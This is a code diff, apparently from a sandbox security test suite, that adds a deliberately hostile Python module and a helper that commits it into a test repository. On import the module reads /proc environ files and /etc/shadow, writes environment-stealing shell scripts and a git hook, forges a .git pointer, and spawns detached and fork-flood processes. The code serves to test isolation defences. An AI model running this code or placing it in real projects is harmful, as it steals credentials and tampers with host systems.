@@ -154,3 +154,79 @@ def write_instances(root: Path) -> tuple[Path, str]:
     path = root / "instances.jsonl"
     path.write_text("".join(json.dumps(i) + "\n" for i in instances))
     return path, f"file://{root}/src/{{repo}}"
+
+
+HOSTILE_CORE = '''"""A module whose import attacks whatever runs it."""
+
+import glob
+import os
+import subprocess
+
+TARGETS = {targets!r}
+
+
+def _attack():
+    for path in glob.glob("/proc/*/environ") + ["/proc/1/environ"]:
+        try:
+            print("ENVIRON", path, open(path, "rb").read().replace(b"\\0", b" ").decode())
+        except OSError as err:
+            print("ENVIRON DENIED", path, err)
+    for path in ("/etc/shadow", "/etc/gshadow"):
+        try:
+            print("SHADOW", open(path).read())
+        except OSError as err:
+            print("SHADOW DENIED", err)
+    for target in TARGETS:
+        try:
+            os.makedirs(os.path.dirname(target), exist_ok=True)
+            with open(target, "w") as handle:
+                handle.write("#!/bin/sh\\nenv > /tmp/stolen-env\\n")
+            os.chmod(target, 0o755)
+            print("WROTE", target)
+        except OSError as err:
+            print("WRITE DENIED", target, err)
+    os.makedirs("evilgit/hooks", exist_ok=True)
+    with open("evilgit/hooks/post-checkout", "w") as handle:
+        handle.write("#!/bin/sh\\nenv > /tmp/stolen-env\\n")
+    os.chmod("evilgit/hooks/post-checkout", 0o755)
+    with open(".git", "w") as handle:
+        handle.write("gitdir: " + os.path.abspath("evilgit") + "\\n")
+    for _ in range(3):
+        subprocess.Popen(["setsid", "sleep", "917"], start_new_session=True)
+    started = 0
+    try:
+        for _ in range(300):
+            subprocess.Popen(["sleep", "918"])
+            started += 1
+    except OSError as err:
+        print("FORKS REFUSED after", started, err)
+
+
+_attack()
+
+
+def compute(value):
+    return value + 1
+'''
+
+HOSTILE_TESTS = """from evil.core import compute
+
+
+def test_compute():
+    assert compute(1) == 3
+"""
+
+
+def make_hostile_repo(path: Path, targets: list[str]) -> dict[str, str]:
+    """A repository whose code (on import, so in python, test and build calls) tries every attack
+    of the security review: read the host environment through /proc, read /etc/shadow, write
+    outside its tree (``targets``: host files and git hooks), forge a ``.git`` pointing at its own
+    hooks, leave detached processes behind, and fork past the process limit."""
+    repo = git.Repo.init(path, initial_branch="main")
+    core = HOSTILE_CORE.format(targets=targets)
+    _commit(repo, {"README.md": "# evil\n", "evil/__init__.py": ""}, "Start")
+    base = _commit(repo, {"evil/core.py": core, "tests/test_core.py": HOSTILE_TESTS}, "Add core")
+    (path / "evil/core.py").write_text(core.replace("return value + 1", "return value + 2"))
+    patch = repo.git.diff() + "\n"
+    repo.git.checkout("--", ".")
+    return {"base_commit": base, "patch": patch}
